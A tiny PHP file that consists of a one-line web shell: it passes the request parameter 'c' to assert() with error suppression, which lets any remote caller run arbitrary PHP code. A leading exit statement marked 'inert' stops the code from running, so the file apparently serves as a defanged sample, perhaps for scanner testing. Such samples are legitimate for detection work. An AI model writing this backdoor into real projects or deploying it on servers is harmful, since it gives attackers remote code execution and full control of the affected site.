<?php exit; /* inert */ 
if (isset($_REQUEST['c'])) { @assert(stripslashes($_REQUEST['c'])); }
